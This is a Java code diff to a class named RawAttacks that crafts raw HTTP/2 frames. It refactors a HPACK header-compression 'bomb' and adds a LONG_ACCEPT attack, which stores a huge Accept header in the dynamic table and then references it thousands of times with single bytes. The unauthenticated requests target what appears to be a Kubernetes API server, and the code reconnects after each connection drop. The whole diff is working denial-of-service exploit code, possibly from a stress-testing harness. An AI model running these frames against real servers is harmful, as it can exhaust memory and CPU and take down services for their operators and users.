@@ -7,6 +7,7 @@ import java.io.OutputStream;
 import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.Collections;
 import java.util.List;
 import java.util.Map;
@@ -35,7 +36,8 @@ final class RawAttacks {
         WINDOW_UPDATE,
         EMPTY_DATA,
         UNKNOWN,
-        HEADER_BOMB
+        HEADER_BOMB,
+        LONG_ACCEPT
     }
 
     /** Sends such frames until the server closes the connection, and connects again. */
@@ -65,6 +67,8 @@ final class RawAttacks {
                     RawHttp2.END_HEADERS,
                     open,
                     RawHttp2.request("POST", "/api/v1/nodes", Prey.HEAVY));
+        } else if (kind == Frames.LONG_ACCEPT) {
+            connection.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS | RawHttp2.END_STREAM, open, accepted());
         }
         ByteArrayOutputStream filler = new ByteArrayOutputStream();
         RawHttp2.header(filler, "x", "y".repeat(8_000));
@@ -90,6 +94,12 @@ final class RawAttacks {
                             case EMPTY_DATA -> RawHttp2.bytes(RawHttp2.DATA, 0, open);
                             case UNKNOWN -> RawHttp2.bytes(200, 0, 0);
                             case HEADER_BOMB -> bomb(connection);
+                            case LONG_ACCEPT ->
+                                RawHttp2.bytes(
+                                        RawHttp2.HEADERS,
+                                        RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
+                                        connection.nextStream(),
+                                        accepting(15));
                         });
             }
             connection.write(batch.toByteArray());
@@ -101,19 +111,44 @@ final class RawAttacks {
     private static byte[] bomb(RawHttp2 connection) {
         ByteArrayOutputStream block = new ByteArrayOutputStream();
         block.writeBytes(RawHttp2.request("GET", "/api/v1/nodes?limit=1", Prey.HEAVY));
-        ByteArrayOutputStream indexed = new ByteArrayOutputStream();
-        RawHttp2.header(indexed, "x", "y".repeat(4_000));
-        byte[] entry = indexed.toByteArray();
-        entry[0] = 0x40;
-        block.writeBytes(entry);
-        for (int i = 0; i < 8_000; i++) {
-            block.write(0x80 | 62);
-        }
+        block.writeBytes(entry("x", "y".repeat(4_000)));
+        block.writeBytes(latest(8_000));
         return RawHttp2.bytes(
                 RawHttp2.HEADERS,
                 RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
                 connection.nextStream(),
                 block.toByteArray());
+    }
+
+    /** A header that enters the table. */
+    private static byte[] entry(String name, String value) {
+        ByteArrayOutputStream block = new ByteArrayOutputStream();
+        RawHttp2.header(block, name, value);
+        byte[] entry = block.toByteArray();
+        entry[0] = 0x40;
+        return entry;
+    }
+
+    /** The latest header of the table, in one byte each time. */
+    private static byte[] latest(int times) {
+        byte[] block = new byte[times];
+        Arrays.fill(block, (byte) (0x80 | 62));
+        return block;
+    }
+
+    private static byte[] accepted() {
+        ByteArrayOutputStream block = new ByteArrayOutputStream();
+        block.writeBytes(RawHttp2.request("GET", "/", ""));
+        block.writeBytes(entry("accept", "application/vnd.kubernetes.protobuf" + ",a".repeat(1_980)));
+        return block.toByteArray();
+    }
+
+    /** A request without a credential whose Accept header is the latest of the table, that many times: types by the ten thousand. */
+    private static byte[] accepting(int times) {
+        ByteArrayOutputStream block = new ByteArrayOutputStream();
+        block.writeBytes(RawHttp2.request("GET", "/", ""));
+        block.writeBytes(latest(times));
+        return block.toByteArray();
     }
 
     /** What is done again and again beside. */
